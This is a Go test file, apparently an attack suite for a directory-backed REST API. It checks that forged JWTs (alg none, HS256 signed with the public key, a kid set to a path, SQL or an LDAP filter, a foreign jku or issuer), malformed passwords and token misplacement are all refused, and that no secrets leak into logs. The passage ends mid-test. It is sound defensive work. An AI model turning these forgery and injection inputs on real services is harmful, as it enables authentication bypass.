package rest_test

// The attack suite. What it has no row for is attacked elsewhere: slow and large headers of the program itself in
// app/program, tokens of another issuer in app/auth/oidc_test.go, and who may do what in access_test.go.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"io"
	"maps"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-ldap/ldap/v3"
	"github.com/google/go-cmp/cmp"

	"rollcall/app/client"
	"rollcall/app/directory"
	"rollcall/app/ldapdir/ldapdirtest"
	"rollcall/app/slapd"
	"rollcall/deploy/openldap"
)

// target is an API that is attacked, behind a proxy that is trusted. When its test ends, no secret that was sent to
// it or that it gave out may be in its log, its audit trail or its directory.
type target struct {
	*api
	secrets *secrets
	trail   *auditTrail
}

func newTarget(t *testing.T, change ...func(*settings)) *target {
	t.Helper()
	seed, err := openldap.Sample(openldap.Values{Suffix: openldap.DefaultSuffix})
	if err != nil {
		t.Fatal(err)
	}
	return newTargetOn(t, ldapdirtest.Start(t, slapd.Options{Seed: seed}), change...)
}

func newTargetOn(t *testing.T, server *slapd.Server, change ...func(*settings)) *target {
	t.Helper()
	a := &target{trail: &auditTrail{}}
	behindProxy := func(s *settings) {
		s.rest.TrustedProxies, s.record = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}, a.trail.record
	}
	a.api = newAPIOn(t, server, append([]func(*settings){behindProxy}, change...)...)
	a.secrets = &secrets{next: a.HTTP.Transport, all: map[string]bool{}}
	a.secrets.add(server.ServicePassword())
	a.HTTP = &http.Client{Transport: a.secrets}
	t.Cleanup(func() {
		a.server.Close() // so that every line is written
		for _, leak := range a.leaks() {
			t.Error(leak)
		}
	})
	return a
}

// realistic limits failed logins as in production.
func realistic(s *settings) { s.auth.MaxFailures, s.auth.FailureWindow = 3, 15*time.Minute }

// from returns the target as somebody reaches it from an address, who is not logged in.
func (a *target) from(address string) *api {
	other := a.as("", "")
	other.HTTP = &http.Client{Transport: forwarded{address, a.secrets}}
	return other
}

// forwarded is a proxy that says whom a request comes from.
type forwarded struct {
	address string
	next    http.RoundTripper
}

// RoundTrip implements [http.RoundTripper].
func (f forwarded) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("X-Forwarded-For", f.address)
	return f.next.RoundTrip(r)
}

// secrets collects what must be kept nowhere from the requests and the answers that pass through it.
type secrets struct {
	next http.RoundTripper

	mutex  sync.Mutex
	all    map[string]bool
	echoed []string // refusals that repeat a secret
}

// shortest is how long a secret is at least: shorter ones, such as the password "admin", stand elsewhere by right.
const shortest = 8

func (s *secrets) add(text string) {
	if len(text) < shortest {
		return
	}
	s.mutex.Lock()
	defer s.mutex.Unlock()
	if len(text) > 64 { // a part of it is a leak as well
		s.all[text[:32]], s.all[text[len(text)-32:]] = true, true
		return
	}
	s.all[text] = true
	s.all[base64.StdEncoding.EncodeToString([]byte(text))] = true
	if quoted := strconv.Quote(text); quoted != `"`+text+`"` {
		s.all[quoted[1:len(quoted)-1]] = true
	}
}

// addToken adds the parts of a token but for its header, which is no secret, and its id.
func (s *secrets) addToken(token string) {
	parts := strings.Split(token, ".")
	for _, part := range parts[min(1, len(parts)-1):] {
		s.add(part)
	}
	if len(parts) == 3 {
		var claims struct{ JTI string }
		if text, err := base64.RawURLEncoding.DecodeString(parts[1]); err == nil && json.Unmarshal(text, &claims) == nil {
			s.add(claims.JTI)
		}
	}
}

func (s *secrets) addAuthorization(value string) {
	scheme, rest, _ := strings.Cut(value, " ")
	if strings.EqualFold(scheme, "Bearer") {
		s.addToken(rest)
		return
	}
	s.add(rest)
	if text, err := base64.StdEncoding.DecodeString(rest); err == nil {
		_, password, _ := strings.Cut(string(text), ":")
		s.add(password)
	}
}

// addFields adds what a JSON object holds under the names of secrets.
func (s *secrets) addFields(body []byte) {
	var fields map[string]any
	if len(body) > 1<<20 || json.Unmarshal(body, &fields) != nil {
		return
	}
	for _, name := range []string{"password", "currentPassword", "newPassword", "userPassword"} {
		if text, ok := fields[name].(string); ok {
			s.add(text)
		}
	}
	for _, name := range []string{"access_token", "refresh_token"} {
		if text, ok := fields[name].(string); ok {
			s.addToken(text)
		}
	}
}

// RoundTrip implements [http.RoundTripper].
func (s *secrets) RoundTrip(r *http.Request) (*http.Response, error) {
	s.addAuthorization(r.Header.Get("Authorization"))
	var sent []byte
	if r.GetBody != nil {
		body, err := r.GetBody()
		if err != nil {
			return nil, err
		}
		if sent, err = io.ReadAll(body); err != nil {
			return nil, err
		}
		s.addFields(sent)
	}
	response, err := s.next.RoundTrip(r)
	if err != nil {
		return nil, err
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	response.Body = io.NopCloser(bytes.NewReader(body))
	s.addFields(body)
	if response.StatusCode >= 400 {
		for _, found := range s.in(string(body)) {
			s.mutex.Lock()
			s.echoed = append(s.echoed, fmt.Sprintf("%s %s is answered with %q: %.300q", r.Method, r.URL.Path, found, body))
			s.mutex.Unlock()
		}
	}
	return response, err
}

// in returns the secrets that a text holds.
func (s *secrets) in(text string) []string {
	s.mutex.Lock()
	defer s.mutex.Unlock()
	var found []string
	for secret := range s.all {
		if strings.Contains(text, secret) {
			found = append(found, secret)
		}
	}
	return found
}

// leaks says where secrets are that should be nowhere.
func (a *target) leaks() []string {
	leaks := slices.Clone(a.secrets.echoed)
	for place, text := range map[string]string{
		"the log": a.log.text(), "the log, decoded": a.decoded(strings.Split(strings.TrimSpace(a.log.text()), "\n")),
		"the audit trail":          strings.Join(a.trail.all(), "\n"),
		"the audit trail, decoded": a.decoded(a.trail.all()), "the directory": a.everything(),
	} {
		for _, secret := range a.secrets.in(text) {
			i := strings.Index(text, secret)
			leaks = append(leaks, fmt.Sprintf("%s holds %q: %.300s", place, secret, text[max(0, i-100):]))
		}
	}
	return leaks
}

// decoded returns lines of JSON as they mean.
func (a *target) decoded(lines []string) string {
	a.t.Helper()
	var b strings.Builder
	for _, line := range lines {
		var o object
		if err := json.Unmarshal([]byte(line), &o); err != nil && line != "" {
			a.t.Errorf("a line is not JSON: %.300q", line)
		}
		fmt.Fprintln(&b, o)
	}
	return b.String()
}

// everything returns all that the service account can read.
func (a *target) everything() string {
	a.t.Helper()
	var b strings.Builder
	for _, entry := range a.search(ldapdirtest.Base, ldap.ScopeWholeSubtree) {
		fmt.Fprintln(&b, entry.DN)
		for _, attribute := range entry.Attributes {
			for _, value := range attribute.Values {
				fmt.Fprintln(&b, attribute.Name+":", value)
			}
		}
	}
	return b.String()
}

func (a *target) search(base string, scope int) []*ldap.Entry {
	a.t.Helper()
	found, err := ldapdirtest.Bind(a.t, a.slapd).SearchWithPaging(ldap.NewSearchRequest(
		base, scope, ldap.NeverDerefAliases, 0, 0, false, "(objectClass=*)", []string{"*", "+"}, nil), 500)
	if err != nil {
		a.t.Fatal(err)
	}
	return found.Entries
}

func TestTheCheckForLeaksFindsThem(t *testing.T) {
	a := newTarget(t)
	if leaks := a.leaks(); len(leaks) > 0 {
		t.Fatalf("nothing leaked yet, but %q", leaks)
	}
	const planted = `planted "secret"`
	s := a.from("192.0.2.1").login("alice", "alice-password")
	a.as("zoe", planted).do("GET", "/me", nil).refused(directory.InvalidCredentials)
	a.do("PATCH", "/users/bob", object{"title": planted}).want(200) // in the audit trail and in the directory
	parts := strings.Split(s.RefreshToken, ".")
	for _, text := range []string{planted, s.AccessToken, parts[2], parts[1][40:]} {
		a.api.log.Buffer.WriteString(mustJSON(object{"error": "it was " + text}) + "\n")
	}
	places := map[string]int{}
	for _, leak := range a.leaks() {
		place, _, _ := strings.Cut(leak, " holds ")
		places[place]++
	}
	for place, n := range map[string]int{
		"the log": 4, "the log, decoded": 4, "the audit trail": 1, "the audit trail, decoded": 1, "the directory": 1,
	} {
		if places[place] < n {
			t.Errorf("%s: %d leaks were found, want %d at least", place, places[place], n)
		}
	}
	a.do("PATCH", "/users/bob", object{"title": "x"}).want(200)
	a.trail.lines = nil
	a.api.log.Reset()
}

func mustJSON(v any) string {
	text, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(text)
}

// Tokens.

// signer signs what stands before a token's last dot.
type signer func(text string) []byte

func edDSA(key ed25519.PrivateKey) signer {
	return func(text string) []byte { return ed25519.Sign(key, []byte(text)) }
}

func keyed(by func() hash.Hash, key []byte) signer {
	return func(text string) []byte {
		mac := hmac.New(by, key)
		_, _ = mac.Write([]byte(text))
		return mac.Sum(nil)
	}
}

func unsigned(string) []byte { return nil }

// forged returns a token (RFC 7515 §3.1).
func forged(header, claims object, sign signer) string {
	text := base64.RawURLEncoding.EncodeToString([]byte(mustJSON(header))) + "." +
		base64.RawURLEncoding.EncodeToString([]byte(mustJSON(claims)))
	return text + "." + base64.RawURLEncoding.EncodeToString(sign(text))
}

// opened returns what a token says.
func opened(t *testing.T, token string) (header, claims object) {
	t.Helper()
	for i, into := range []*object{&header, &claims} {
		text, err := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[i])
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(text, into); err != nil {
			t.Fatal(err)
		}
	}
	return header, claims
}

// absent takes a member out of an object.
var absent = new(int)

func altered(o, changes object) object {
	o = maps.Clone(o)
	maps.Copy(o, changes)
	maps.DeleteFunc(o, func(_ string, v any) bool { return v == any(absent) })
	return o
}

// otherKey is a key that is not ours.
var otherKey = ed25519.NewKeyFromSeed(bytes.Repeat([]byte{8}, ed25519.SeedSize))

func TestNoTokenIsTakenButOurs(t *testing.T) {
	a := newTarget(t)
	public := tokenKey.Public().(ed25519.PublicKey)
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		t.Fatal(err)
	}
	inPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	x := base64.RawURLEncoding.EncodeToString(public)
	otherX := base64.RawURLEncoding.EncodeToString(otherKey.Public().(ed25519.PublicKey))
	otherJWK := object{"kty": "OKP", "crv": "Ed25519", "x": otherX, "kid": "other", "use": "sig", "alg": "EdDSA"}
	ours, theirs := edDSA(tokenKey), edDSA(otherKey)
	a.do("PUT", "/users/mallory", object{"sn": "x", "userPassword": "mallory-password"}).want(201)
	_, another := opened(t, a.login("mallory", "mallory-password").AccessToken)
	past, future := time.Now().Add(-time.Second).Unix(), time.Now().Add(time.Hour).Unix()

	rows := []struct {
		what           string
		header, claims object // what is otherwise than in a good token
		sign           signer
		// late tells that this is found out when the session is known.
		late bool
	}{
		{what: "alg none", header: object{"alg": "none"}, sign: unsigned},
		{what: "alg None", header: object{"alg": "None"}, sign: unsigned},
		{what: "alg NONE", header: object{"alg": "NONE"}, sign: unsigned},
		{what: "alg none, signed", header: object{"alg": "none"}, sign: ours},
		{what: "alg empty", header: object{"alg": ""}, sign: unsigned},
		{what: "alg missing", header: object{"alg": absent}, sign: ours},
		{what: "alg null", header: object{"alg": nil}, sign: ours},
		{what: "alg a list", header: object{"alg": []string{"EdDSA", "none"}}, sign: ours},
		{what: "HS256 by the public key", header: object{"alg": "HS256"}, sign: keyed(sha256.New, public)},
		{what: "HS256 by the public key in DER", header: object{"alg": "HS256"}, sign: keyed(sha256.New, der)},
		{what: "HS256 by the public key in PEM", header: object{"alg": "HS256"}, sign: keyed(sha256.New, inPEM)},
		{what: "HS256 by the key set's x", header: object{"alg": "HS256"}, sign: keyed(sha256.New, []byte(x))},
		{what: "HS256 by nothing", header: object{"alg": "HS256"}, sign: keyed(sha256.New, nil)},
		{what: "HS512 by the public key", header: object{"alg": "HS512"}, sign: keyed(sha512.New, public)},
		{what: "ES256 in name", header: object{"alg": "ES256"}, sign: ours},
		{what: "RS256 in name", header: object{"alg": "RS256"}, sign: ours},
		{what: "unsigned", sign: unsigned},
		{what: "signed with zeros", sign: func(string) []byte { return make([]byte, ed25519.SignatureSize) }},
		{what: "signed for something else", sign: func(string) []byte { return ed25519.Sign(tokenKey, []byte("x")) }},
		{what: "signed by another key", sign: theirs},
		{what: "of another issuer and key", claims: object{"iss": "https://evil.example"}, sign: theirs},
		{what: "of another issuer by our key", claims: object{"iss": "https://evil.example"}, sign: ours},
		{what: "of an issuer that looks like ours", claims: object{"iss": "Rollcall"}, sign: ours},
		{what: "of no issuer", claims: object{"iss": absent}, sign: ours},
		{what: "for another audience", claims: object{"aud": []string{"another"}}, sign: ours},
		{what: "for no audience", claims: object{"aud": absent}, sign: ours},
		{what: "for an empty audience", claims: object{"aud": []string{}}, sign: ours},
		{what: "expired", claims: object{"exp": past}, sign: ours},
		{what: "expired long ago", claims: object{"exp": 1}, sign: ours},
		{what: "expired at zero", claims: object{"exp": 0}, sign: ours},
		{what: "without an end", claims: object{"exp": absent}, sign: ours},
		{what: "with an end that is null", claims: object{"exp": nil}, sign: ours},
		{what: "with an end that is no number", claims: object{"exp": "never"}, sign: ours},
		{what: "not good yet", claims: object{"nbf": future}, sign: ours},
		{what: "without a subject", claims: object{"sub": absent}, sign: ours},
		{what: "with an empty subject", claims: object{"sub": ""}, sign: ours},
		{what: "without a session", claims: object{"sid": absent}, sign: ours},
		{what: "with an empty session", claims: object{"sid": ""}, sign: ours},
		{what: "with a session that is no text", claims: object{"sid": 7}, sign: ours},
		{what: "without an id", claims: object{"jti": absent}, sign: ours},
		{what: "with an empty id", claims: object{"jti": ""}, sign: ours},
		{what: "of no type", header: object{"typ": absent}, sign: ours},
		{what: "of the type JWT", header: object{"typ": "JWT"}, sign: ours},
		{what: "of both types", header: object{"typ": []string{"at+jwt", "rt+jwt"}}, sign: ours},
		{what: "an unknown kid", header: object{"kid": "other"}, sign: ours},
		{what: "no kid", header: object{"kid": absent}, sign: ours},
		{what: "a kid that is null", header: object{"kid": nil}, sign: ours},
		{what: "a kid that is empty", header: object{"kid": ""}, sign: theirs},
		{what: "a kid that is a path", header: object{"kid": "../../../../dev/null"}, sign: keyed(sha256.New, nil)},
		{what: "a kid that is SQL", header: object{"kid": "x' UNION SELECT 'y'--"}, sign: keyed(sha256.New, []byte("y"))},
		{what: "a kid that is a filter", header: object{"kid": "*)(kid=*"}, sign: theirs},
		{what: "a kid that is a list", header: object{"kid": []string{"x"}}, sign: theirs},
		{what: "a kid that is an object", header: object{"kid": object{}}, sign: theirs},
		{what: "a kid that is a number", header: object{"kid": 0}, sign: theirs},
		{what: "a jwk", header: object{"jwk": otherJWK}, sign: theirs},
		{what: "a jwk with its kid", header: object{"jwk": otherJWK, "kid": "other"}, sign: theirs},
		{what: "a jku", header: object{"jku": a.server.URL + "/evil", "kid": "other"}, sign: theirs},
		{what: "an x5u", header: object{"x5u": a.server.URL + "/evil", "kid": "other"}, sign: theirs},
		{what: "an x5c", header: object{"x5c": []string{base64.StdEncoding.EncodeToString(der)}}, sign: theirs},
		{what: "another's session", claims: object{"sid": another["sid"]}, sign: ours, late: true},
		{what: "another's subject", claims: object{"sub": another["sub"]}, sign: ours, late: true},
		{what: "a name for a subject", claims: object{"sub": "alice"}, sign: ours, late: true},
		{what: "a DN for a subject", claims: object{"sub": userDN("alice")}, sign: ours, late: true},
		{what: "any subject", claims: object{"sub": "*"}, sign: ours, late: true},
		{what: "an injected subject", claims: object{"sub": "*)(cn=alice"}, sign: ours, late: true},
		{what: "any session", claims: object{"sid": "*"}, sign: ours, late: true},
		{what: "an injected session", claims: object{"sid": "*)(objectClass=*"}, sign: ours, late: true},
		{what: "a DN for a session", claims: object{"sid": "x,ou=people"}, sign: ours, late: true},
		{what: "a NUL for a session", claims: object{"sid": "\x00"}, sign: ours, late: true},
		{what: "a long session", claims: object{"sid": strings.Repeat("x", 8000)}, sign: ours, late: true},
	}
	access := func(token string) *exchange { return a.bearing(token).do("GET", "/me", nil) }
	for _, kind := range []struct {
		what  string
		token func(session) string
		show  func(token string) *exchange
		late  bool
	}{
		{"access", func(s session) string { return s.AccessToken }, access, true},
		{"refresh", func(s session) string { return s.RefreshToken }, a.refreshed, false},
	} {
		s := a.login("alice", "alice-password")
		header, claims := opened(t, kind.token(s))
		for _, c := range rows {
			if c.late && !kind.late {
				continue // it would end the session, as it must
			}
			t.Run(kind.what+" "+c.what, func(t *testing.T) {
				x := kind.show(forged(altered(header, c.header), altered(claims, c.claims), c.sign))
				x.t = t
				x.refused(directory.InvalidToken)
			})
		}
		good := kind.token(s)
		parts := strings.Split(good, ".")
		other := base64.RawURLEncoding.EncodeToString([]byte(mustJSON(altered(claims, object{"sub": another["sub"]}))))
		for what, token := range map[string]string{
			"with another payload": parts[0] + "." + other + "." + parts[2],
			"cut":                  good[:len(good)-2],
			"without signature":    parts[0] + "." + parts[1] + ".",
			"without its last dot": parts[0] + "." + parts[1],
			"with a fourth part":   good + ".x",
			"with a dot":           good + ".",
			"with a letter more":   good + "A",
			"padded":               good + "==",
			"with a quote":         good + `"`,
			"with another token":   good + "," + good,
			"twice":                good + "." + good,
			"dots":                 strings.Repeat(".", 4000),
			"10 kB":                strings.Repeat("x", 10<<10),
			"10 kB in three parts": parts[0] + "." + strings.Repeat("A", 10<<10) + "." + parts[2],
			"nothing but a header": parts[0],
			"no base64":            "!.!.!",
			"no JSON":              "eHg.eHg.eHg",
			"a number":             "MQ.MQ.MQ",
		} {
			t.Run(kind.what+" "+what, func(t *testing.T) {
				x := kind.show(token)
				x.t = t
				if x.Status != 422 || kind.what == "access" { // 422 is for what is too long to be a token
					x.refused(directory.InvalidToken)
				}
			})
		}
		t.Run(kind.what+" of the other type", func(t *testing.T) {
			x := access(s.RefreshToken)
			if kind.what == "refresh" {
				x = a.refreshed(s.AccessToken)
			}
			x.t = t
			x.refused(directory.InvalidToken)
		})
		// One that is made as those above, but right, is taken: they were refused for what is wrong with them.
		kind.show(forged(header, claims, ours)).want(200)
	}
}

func TestATokenCountsInTheAuthorizationHeaderOnly(t *testing.T) {
	a := newTarget(t)
	token := a.login("alice", "alice-password").AccessToken
	nobody := a.as("", "")
	for _, c := range []struct {
		what, path string
		headers    []string
	}{
		{"in the query", "/users/alice?access_token=" + token, nil},
		{"in the query, by another name", "/users/alice?token=" + token + "&authorization=Bearer%20" + token, nil},
		{"in a cookie", "/users/alice", []string{"Cookie", "access_token=" + token + "; Authorization=" + token}},
		{"in another header", "/users/alice", []string{"X-Access-Token", token}},
		{"for a proxy", "/users/alice", []string{"Proxy-Authorization", "Bearer " + token}},
		{"by another scheme", "/users/alice", []string{"Authorization", "Token " + token}},
		{"by no scheme", "/users/alice", []string{"Authorization", token}},
		{"by Basic", "/users/alice", []string{"Authorization", "Basic " + token}},
	} {
		x := nobody.do("GET", c.path, nil, c.headers...)
		if x.Status != 401 {
			x.fail("a token %s counts", c.what)
		}
		x.refused(directory.CredentialsRequired)
	}
	form := nobody.do("POST", "/users", "access_token="+token, "Content-Type", "application/x-www-form-urlencoded")
	form.refused(directory.CredentialsRequired)
	nobody.do("GET", "/users/alice", nil, "Authorization", "bearer "+token).want(200)
}

// TestATokenEndsWithWhatItStandsFor: on the replica where that happens at once, although it believes for an hour
// what it has read; on another when it reads again; and its refresh token is refused by both.
func TestATokenEndsWithWhatItStandsFor(t *testing.T) {
	logout := struct {
		name string
		end  func(a *api)
	}{"logged out", nil}
	for _, c := range append(slices.Clone(ends), logout) {
		t.Run(c.name, func(t *testing.T) {
			one := newTarget(t, func(s *settings) { s.auth.Freshness = time.Hour })
			two := newTargetOn(t, one.slapd, func(s *settings) { s.auth.Freshness = 0 })
			s := one.login("alice", "alice-password")
			one.bearing(s.AccessToken).do("GET", "/me", nil).want(200)
			two.bearing(s.AccessToken).do("GET", "/me", nil).want(200)
			if c.end == nil {
				one.bearing(s.AccessToken).do("DELETE", "/logout", nil).want(204)
			} else {
				c.end(one.api)
			}
			one.bearing(s.AccessToken).do("GET", "/me", nil).refused(directory.InvalidToken)
			two.bearing(s.AccessToken).do("GET", "/me", nil).refused(directory.InvalidToken)
			two.refreshed(s.RefreshToken).refused(directory.InvalidToken)
			one.refreshed(s.RefreshToken).refused(directory.InvalidToken)
			one.bearing(s.AccessToken).do("GET", "/me", nil).refused(directory.InvalidToken)
		})
	}
}

func TestAStolenRefreshTokenIsWorthNothingOnceEitherIsUsed(t *testing.T) {
	one := newTarget(t)
	two := newTargetOn(t, one.slapd, func(s *settings) { s.auth.Freshness = 0 })
	stolen := one.login("alice", "alice-password")
	var thief session
	two.refreshed(stolen.RefreshToken).want(200).decode(&thief)
	one.refreshed(stolen.RefreshToken).refused(directory.InvalidToken) // alice's turn: it was used, so all of it ends
	for _, token := range []string{stolen.AccessToken, thief.AccessToken} {
		two.bearing(token).do("GET", "/me", nil).refused(directory.InvalidToken)
		one.bearing(token).do("GET", "/me", nil).refused(directory.InvalidToken)
	}
	two.refreshed(thief.RefreshToken).refused(directory.InvalidToken)
}

func TestATokenEndsAlthoughItIsRemembered(t *testing.T) {
	a := newTarget(t, func(s *settings) { s.auth.Freshness, s.auth.Tokens.AccessLifetime = time.Hour, 2*time.Second })
	alice := a.bearing(a.login("alice", "alice-password").AccessToken)
	alice.do("GET", "/me", nil).want(200)
	within(t, func() bool { return alice.do("GET", "/me", nil).Status == 401 })
	alice.do("GET", "/me", nil).refused(directory.InvalidToken)
}

func TestAnOldKeysTokensAreGoodWhileTheKeyIsConfigured(t *testing.T) {
	keys := func(keys ...ed25519.PrivateKey) func(*settings) {
		return func(s *settings) { s.auth.Tokens.Keys = keys }
	}
	before := newTarget(t, keys(tokenKey))
	overlap := newTargetOn(t, before.slapd, keys(otherKey, tokenKey))
	after := newTargetOn(t, before.slapd, keys(otherKey))
	old, renewed := before.login("alice", "alice-password"), session{}
	overlap.bearing(old.AccessToken).do("GET", "/me", nil).want(200)
	after.bearing(old.AccessToken).do("GET", "/me", nil).refused(directory.InvalidToken)
	after.refreshed(old.RefreshToken).refused(directory.InvalidToken)
	overlap.refreshed(old.RefreshToken).want(200).decode(&renewed)
	after.bearing(renewed.AccessToken).do("GET", "/me", nil).want(200)
	before.bearing(renewed.AccessToken).do("GET", "/me", nil).refused(directory.InvalidToken)
	after.refreshed(renewed.RefreshToken).want(200)
	for what, c := range map[string]struct {
		a *target
		n int
	}{"before": {before, 1}, "in the overlap": {overlap, 2}, "after": {after, 1}} {
		var set struct{ Keys []object }
		c.a.as("", "").do("GET", "/.well-known/jwks.json", nil).want(200).decode(&set)
		if len(set.Keys) != c.n {
			t.Errorf("%s there are %d keys, want %d", what, len(set.Keys), c.n)
		}
	}
}

// Passwords.

// doors are the two ways in by a password.
var doors = []struct {
	name  string
	knock func(a *api, login, password string) *exchange
}{
	{"Basic", func(a *api, login, password string) *exchange { return a.as(login, password).do("GET", "/me", nil) }},
	{"/login", func(a *api, login, password string) *exchange {
		return a.as("", "").do("POST", "/login", object{"username": login, "password": password})
	}},
}

// TestAPasswordIsRightOrWrongAsAWhole, on a server that takes a bind without a password for a success.
func TestAPasswordIsRightOrWrongAsAWhole(t *testing.T) {
	seed, err := openldap.Sample(openldap.Values{Suffix: openldap.DefaultSuffix})
	if err != nil {
		t.Fatal(err)
	}
	lax := func(conf string) string { return "allow bind_anon_cred bind_anon_dn\n" + conf }
	// She is not locked, or that would refuse them all.
	unlocked := "uid: alice\npwdPolicySubentry: cn=decoy,ou=policies," + ldapdirtest.Base + "\n"
	seed = strings.Replace(seed, "uid: alice\n", unlocked, 1)
	a := newTargetOn(t, ldapdirtest.Start(t, slapd.Options{Seed: seed, Config: lax}))
	const right = "pässword of alice"
	a.do("PUT", "/users/alice/password", object{"newPassword": right}).want(204)
	for _, door := range doors {
		for what, password := range map[string]string{
			"empty":                     "",
			"a space":                   " ",
			"a NUL":                     "\x00",
			"a NUL at the end":          right + "\x00",
			"a NUL and more at the end": right + "\x00x",
			"a NUL before it":           "\x00" + right,
			"a line feed at the end":    right + "\n",
			"a line break at the end":   right + "\r\n",
			"a line break before it":    "\r\n" + right,
			"a space at the end":        right + " ",
			"cut":                       right[:len(right)-1],
			"twice":                     right + right,
			"in capitals":               strings.ToUpper(right),
			"{CLEARTEXT}":               "{CLEARTEXT}" + right,
			"{SSHA}":                    "{SSHA}" + base64.StdEncoding.EncodeToString([]byte(right)),
			"{ARGON2}":                  "{ARGON2}$argon2i$v=19$m=19456,t=3,p=1$HF5kfMjds1bdhYaPQ+e/0A$fMtQlk5sOac3",
			"{EXTERNAL}":                "{EXTERNAL}",
			"decomposed":                strings.ReplaceAll(right, "ä", "a\u0308"),
			"Cyrillic":                  strings.ReplaceAll(right, "o", "\u043e"),
			"full width":                strings.ReplaceAll(right, "p", "\uff50"),
			"a zero width space":        right + "\u200b",
			"without the diaeresis":     strings.ReplaceAll(right, "ä", "a"),
			"4096 characters":           strings.Repeat("x", 4096),
			"a wildcard":                "*",
			"no UTF-8":                  "\xff\xfe",
		} {
			t.Run(door.name+" "+what, func(t *testing.T) {
				x := door.knock(a.api, "alice", password)
				x.t = t
				x.refused(directory.InvalidCredentials)
			})
		}
		door.knock(a.api, "alice", right).want(200)
	}
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte(":"+right))
	a.as("", "").do("GET", "/me", nil, "Authorization", basic).refused(directory.InvalidCredentials)
	a.as("", "").do("POST", "/login", object{"username": "", "password": right}).refused(directory.InvalidCredentials)
}

func TestAHugePasswordIsTriedNowhere(t *testing.T) {
	a := newTarget(t)
	huge := strings.Repeat("0123456789-huge-", 10<<20/16)
	a.secrets.add(huge)
	nobody := a.as("", "")
	for _, c := range []struct {
		x    *exchange
		code *directory.Code
	}{
		{nobody.do("POST", "/login", object{"username": "alice", "password": huge[:5000]}), directory.Invalid},
		{nobody.do("POST", "/login", object{"username": huge[:5000], "password": "x"}), directory.Invalid},
		{nobody.do("POST", "/login", object{"username": "alice", "password": huge}), directory.BodyTooLarge},
		{nobody.do("POST", "/refresh", object{"refresh_token": huge}), directory.BodyTooLarge},
		{a.do("PUT", "/users/alice/password", object{"newPassword": huge[:5000]}), directory.Invalid},
		{a.do("PUT", "/users/alice/password", object{"newPassword": huge}), directory.BodyTooLarge},
		{a.do("PATCH", "/users/alice", object{"userPassword": huge}), directory.BodyTooLarge},
		{a.do("POST", "/users", object{"cn": "zed", "sn": "x", "userPassword": huge}), directory.BodyTooLarge},
	} {
		c.x.request = c.x.request[:100]
		c.x.is(c.code)
	}
	for _, x := range []*exchange{
		nobody.do("POST", "/login", object{"username": "alice", "password": huge[:5000]}),
		nobody.do("POST", "/login", object{"username": "alice", "password": huge}),
	} {
		if n := a.logged(x)["ldap_operations"]; n != 0.0 {
			x.fail("the directory was asked, %v times", n)
		}
	}
	if n, _ := a.failures("alice"); n != 0 {
		t.Errorf("%d of them were tried", n)
	}
	a.as("alice", huge[:20<<10]).do("GET", "/me", nil).refused(directory.InvalidCredentials)
	address := a.served(nil)
	basic := base64.StdEncoding.EncodeToString([]byte("alice:" + huge[:1<<20]))
	answer := a.send(address, "GET /me HTTP/1.1\r\nHost: x\r\nAuthorization: Basic "+basic+"\r\n\r\n")
	if answer.status != http.StatusRequestHeaderFieldsTooLarge {
		t.Errorf("a password of 1 MB in a header is answered with %d", answer.status)
	}
}

// is demands a problem of a code, with whatever violations.
func (x *exchange) is(code *directory.Code) *exchange {
	x.t.Helper()
	if x.Status != code.Status || x.problem().Code != code.Name {
		x.fail("got %d, want %s", x.Status, code.Name)
	}
	return x
}

func TestWhatCanBeNoPasswordIsStoredNowhere(t *testing.T) {
	a := newTarget(t)
	const current = "zed-password-0"
	a.do("POST", "/users", object{"cn": "zed", "sn": "x", "userPassword": current}).want(201)
	for _, c := range []struct{ what, password string }{
		{"empty", ""},
		{"a NUL", "zed-pass\x00word"},
		{"a NUL at the end", "zed-password\x00"},
		{"{CLEARTEXT}", "{CLEARTEXT}zed-password"},
		{"{SSHA}", "{SSHA}5en6G6MezRroT3XKqkdPOmY/BfQ5en6G6MezRro="},
		{"{ARGON2}", "{ARGON2}$argon2i$v=19$m=19456,t=3,p=1$HF5kfMjds1bdhYaPQ+e/0A$fMtQlk5sOac3"},
		{"{crypt}", "{crypt}rl0uE7EXPAAmA"},
		{"too short for the policy", "zed-pw1"},
	} {
		user := func(name string) object { return object{"cn": name, "sn": "x", "userPassword": c.password} }
		own := object{"currentPassword": current, "newPassword": c.password}
		for door, x := range map[string]*exchange{
			"a creation":        a.do("POST", "/users", user("zoe")),
			"a creation by PUT": a.do("PUT", "/users/zoe", user("zoe")),
			"a change":          a.do("PATCH", "/users/zed", user("zed")),
			"a replacement":     a.do("PUT", "/users/zed", user("zed")),
			"an admin's":        a.do("PUT", "/users/zed/password", object{"newPassword": c.password}),
			"one's own change":  a.as("zed", current).do("PUT", "/users/zed/password", own),
		} {
			if x.Status != 422 {
				x.fail("%s by %s is not refused", c.what, door)
			}
			for _, v := range x.problem().Violations {
				if v.Field != "userPassword" && v.Field != "newPassword" {
					x.fail("%s by %s: there is something wrong with %s", c.what, door, v.Field)
				}
			}
		}
		a.do("GET", "/users/zoe", nil).refused(directory.NotFound)
	}
	a.from("192.0.2.1").login("zed", current)
}

func TestAPasswordWithLineBreaksIsKeptAsItIs(t *testing.T) {
	a := newTarget(t)
	const odd = "line one\r\nline two\tand \"quotes\" {SSHA}"
	a.do("PUT", "/users/alice/password", object{"newPassword": odd}).want(204)
	for _, door := range doors {
		door.knock(a.api, "alice", odd).want(200)
		door.knock(a.api, "alice", "line one").refused(directory.InvalidCredentials)
		door.knock(a.api, "alice", strings.ReplaceAll(odd, "\r\n", "\n")).refused(directory.InvalidCredentials)
	}
}

// Login names.

func TestALoginNameIsANameAndNothingElse(t *testing.T) {
	a := newTarget(t)
	for _, door := range doors {
		for _, name := range []string{
